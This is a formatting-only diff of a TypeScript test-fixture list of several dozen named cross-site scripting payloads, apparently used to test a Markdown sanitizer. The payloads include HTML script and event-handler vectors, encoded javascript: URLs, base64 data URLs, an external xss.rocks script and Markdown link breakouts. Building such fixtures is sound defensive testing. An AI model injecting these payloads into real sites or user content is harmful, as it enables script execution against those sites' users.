@@ -7,18 +7,30 @@
 export const XSS_PAYLOADS: readonly { name: string; markdown: string }[] = [
   // Raw HTML (OWASP cheat sheet)
   { name: "script tag", markdown: "<script>alert(1)</script>" },
-  { name: "external script, upper case", markdown: '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>' },
+  { name: "external script, upper case", markdown: "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>" },
   { name: "script with slash attribute", markdown: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>' },
   { name: "extraneous open brackets", markdown: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
   { name: "img javascript src", markdown: `<IMG SRC="javascript:alert('XSS');">` },
   { name: "img mixed-case javascript", markdown: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
-  { name: "img grave accents", markdown: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
+  { name: "img grave accents", markdown: "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>" },
   { name: "img onerror", markdown: "<img src=x onerror=alert(1)>" },
   { name: "img malformed quotes", markdown: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
   { name: "img onmouseover", markdown: `<IMG SRC=# onmouseover="alert('xxs')">` },
-  { name: "img decimal entities", markdown: "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>" },
-  { name: "img padded entities without semicolons", markdown: "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>" },
-  { name: "img hex entities", markdown: "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>" },
+  {
+    name: "img decimal entities",
+    markdown:
+      "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+  },
+  {
+    name: "img padded entities without semicolons",
+    markdown:
+      "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
+  },
+  {
+    name: "img hex entities",
+    markdown:
+      "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+  },
   { name: "img embedded tab", markdown: `<IMG SRC="jav\tascript:alert('XSS');">` },
   { name: "img encoded tab", markdown: `<IMG SRC="jav&#x09;ascript:alert('XSS');">` },
   { name: "img encoded newline", markdown: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">` },
@@ -35,15 +47,25 @@ export const XSS_PAYLOADS: readonly { name: string; markdown: string }[] = [
   { name: "math mutation", markdown: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" },
   { name: "noscript mutation", markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
   { name: "object data", markdown: '<object data="javascript:alert(1)"></object>' },
-  { name: "embed svg data URL", markdown: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>' },
+  {
+    name: "embed svg data URL",
+    markdown:
+      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+  },
   { name: "style list-style-image", markdown: `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>` },
   { name: "style attribute expression", markdown: `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>` },
   { name: "meta refresh", markdown: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">` },
-  { name: "meta refresh data URL", markdown: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">' },
+  {
+    name: "meta refresh data URL",
+    markdown: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+  },
   { name: "base href", markdown: `<BASE HREF="javascript:alert('XSS');//">` },
   { name: "link stylesheet", markdown: `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">` },
   { name: "table background", markdown: `<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD>x</TD></TR></TABLE>` },
-  { name: "form action and formaction", markdown: '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button><input type=submit></form>' },
+  {
+    name: "form action and formaction",
+    markdown: '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button><input type=submit></form>',
+  },
   { name: "details ontoggle", markdown: "<details open ontoggle=alert(1)>x</details>" },
   { name: "input autofocus onfocus", markdown: "<input autofocus onfocus=alert(1)>" },
   { name: "video source onerror", markdown: '<video><source onerror="alert(1)"></video>' },
@@ -52,7 +74,7 @@ export const XSS_PAYLOADS: readonly { name: string; markdown: string }[] = [
   { name: "downlevel-hidden conditional comment", markdown: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
   { name: "comment hiding a script", markdown: "<!-- --!><script>alert(1)</script> -->" },
   { name: "CDATA", markdown: "<![CDATA[<script>alert(1)</script>]]>" },
-  { name: "processing instruction", markdown: "<?xml-stylesheet href=\"javascript:alert(1)\"?>" },
+  { name: "processing instruction", markdown: '<?xml-stylesheet href="javascript:alert(1)"?>' },
   // Markdown links and images
   { name: "md link javascript", markdown: "[x](javascript:alert(1))" },
   { name: "md link mixed case", markdown: "[x](JaVaScRiPt:alert(1))" },
@@ -79,7 +101,7 @@ export const XSS_PAYLOADS: readonly { name: string; markdown: string }[] = [
   { name: "md link title breakout", markdown: '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")' },
   { name: "md link href breakout", markdown: '[x](https://ok.example/"><script>alert(1)</script>)' },
   { name: "md reference link javascript", markdown: "[x][ref]\n\n[ref]: javascript:alert(1)" },
-  { name: "md reference link entity", markdown: "[x][ref]\n\n[ref]: &#106;avascript:alert(1) \"t\"" },
+  { name: "md reference link entity", markdown: '[x][ref]\n\n[ref]: &#106;avascript:alert(1) "t"' },
   { name: "md reference image javascript", markdown: "![x][img]\n\n[img]: javascript:alert(1)" },
   { name: "md image javascript", markdown: "![x](javascript:alert(1))" },
   { name: "md image data svg", markdown: "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)" },
@@ -95,7 +117,7 @@ export const XSS_PAYLOADS: readonly { name: string; markdown: string }[] = [
   { name: "code span script", markdown: "`<script>alert(1)</script>`" },
   { name: "fenced html script", markdown: "```html\n<script>alert(1)</script>\n```" },
   { name: "fence info breakout", markdown: '```"><script>alert(1)</script>\nx\n```' },
-  { name: "heading with html", markdown: "# \"><img src=x onerror=alert(1)>" },
+  { name: "heading with html", markdown: '# "><img src=x onerror=alert(1)>' },
   { name: "table cell with html", markdown: "| a |\n|---|\n| <script>alert(1)</script> |" },
   { name: "footnote label breakout", markdown: 'x[^a"onmouseover="alert(1)]\n\n[^a"onmouseover="alert(1)]: y' },
   { name: "task list with html", markdown: "- [x] <img src=x onerror=alert(1)>" },
